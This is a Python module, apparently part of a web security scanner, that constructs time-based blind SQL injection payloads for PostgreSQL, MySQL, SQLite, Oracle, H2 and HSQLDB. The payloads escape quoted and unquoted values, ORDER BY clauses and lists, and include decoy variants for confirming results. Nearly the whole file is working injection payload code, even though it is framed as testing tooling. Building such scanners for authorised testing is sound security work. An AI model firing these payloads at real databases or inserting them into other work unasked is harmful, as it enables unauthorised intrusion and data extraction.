"""Payloads of `sqli` that wait: conditions that are true after a while, for statements of which nothing is shown."""

from typing import NamedTuple

from gatecrash.core.testing.payloads.sqli import NOTHING, is_direction, is_list


class Wait(NamedTuple):
    """A condition that is true after a wait, and keeps the value what it was.

    Each stands in a subquery of its own that refers to nothing outside, so that a statement evaluates it once and not
    once a row (PostgreSQL: InitPlan; SQLite: once; MySQL: a derived table is made once, and LIMIT keeps it one).
    condition: `{units}` stands for the wait. word: what waits, for which a lookalike stands in the decoy.
    seconds: of one unit; 0 for work, of which `{steps}` are done. number, text: where the value stands in a statement;
    a number may stand in quotes as well.
    joins: the text is joined, which is only done with care where `||` may be OR.
    """

    engine: str
    condition: str
    word: str
    lookalike: str
    text: str
    seconds: float = 1.0
    joins: bool = True
    number: str = "(CASE WHEN {condition} THEN {value} END)"


_JOINED_WAIT = f"{{value}}'||{NOTHING}||CASE WHEN {{condition}} THEN '' ELSE '{{mark}}' END||'"
# Half a second or less for a unit; three of them are the most, and four times as many only where two took less than 0.15 s, which
# bounds the work wherever it is done.
STEPS_PER_UNIT = 400_000

_POSTGRESQL = Wait(
    "PostgreSQL", "(SELECT CAST(pg_sleep({units}) AS varchar(9)))=''", "pg_sleep", "pg_slepe", _JOINED_WAIT
)
# `||` is OR there. A text goes on with `|`, which binds more tightly than any comparison, and a NULL: the whole is NULL,
# which finds nothing in brackets, patterns, lists and their negations.
_MYSQL = Wait(
    "MySQL",
    "(SELECT {mark}.s FROM (SELECT SLEEP({units}) AS s LIMIT 1) {mark})=0",
    "SLEEP",
    "SLEPE",
    "{value}'|(SELECT NULLIF({mark}.s,{mark}.s) FROM (SELECT SLEEP({units}) AS s LIMIT 1) {mark})|'",
    joins=False,
)
# No function waits; counting in a recursive query takes no memory and ends where it is told to.
_SQLITE = Wait(
    "SQLite",
    "(WITH RECURSIVE {mark}(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM {mark} WHERE n<{steps}) SELECT MAX(n) FROM {mark})>0",
    "RECURSIVE",
    "RECURSIVA",
    _JOINED_WAIT,
    seconds=0,
)
_ORACLE = Wait(
    "Oracle",
    "(SELECT DBMS_PIPE.RECEIVE_MESSAGE('{mark}',{units}) FROM DUAL)>=0",
    "RECEIVE_MESSAGE",
    "RECEIVE_MESAGE",
    _JOINED_WAIT,
)
# Neither has a function that waits; both count rows that nobody stored: about half a second for a unit.
_H2 = Wait(
    "H2",
    "(SELECT SUM({mark}.X) FROM SYSTEM_RANGE(1,{steps}) {mark},SYSTEM_RANGE(1,2))>0",
    "SYSTEM_RANGE",
    "SYSTEM_RANEG",
    _JOINED_WAIT,
    seconds=0,
)
_HSQLDB = Wait(
    "HSQLDB",
    "(SELECT COUNT(*) FROM UNNEST(SEQUENCE_ARRAY(1,{steps}/400,1)) {mark},UNNEST(SEQUENCE_ARRAY(1,2000,1)))>0",
    "SEQUENCE_ARRAY",
    "SEQUENCE_ARAY",
    _JOINED_WAIT,
    seconds=0,
)
# Microsoft SQL Server waits only in a statement of its own, which would be a second one.
WAITS = (_POSTGRESQL, _MYSQL, _SQLITE)
# Databases within a program of Java, seldom behind one that is in use.
WAITS_OF_JAVA = (_HSQLDB, _H2)
WAITS_WHERE_NAMED = (_ORACLE,)


# A number that stands without quotes, behind which all is a comment; within quotes that is a text, and what waits stands
# behind it. It begins with a bracket, so that no join finds anything where `||` is OR.
_IN_EITHER = "{number}/*{text}*/"
# As a further column to sort by.
_BEHIND = "{value},(CASE WHEN {condition} THEN 0.5 END)"
# In the place of the last of several numbers.
_LAST = "{init},(CASE WHEN {condition} THEN {last} END)"


def fill_wait(wait: Wait, value: str, units: int, mark: str, *, number: bool, decoy: bool = False) -> str:
    """The payload that waits so many units. number: the value is one, and stands with quotes or without."""
    init, _, last = value.rpartition(",")
    either = _IN_EITHER.replace("{number}", wait.number).replace("{text}", wait.text.replace("{value}", ""))
    pattern = either if number else wait.text
    pattern = _BEHIND if is_direction(value) else _LAST if is_list(value) else pattern
    pattern = pattern.replace("{condition}", wait.condition)
    if decoy:
        pattern = pattern.replace(wait.word, wait.lookalike)
    steps = 1 + units * STEPS_PER_UNIT
    return pattern.format(value=value, init=init, last=last, units=units, steps=steps, mark=mark)
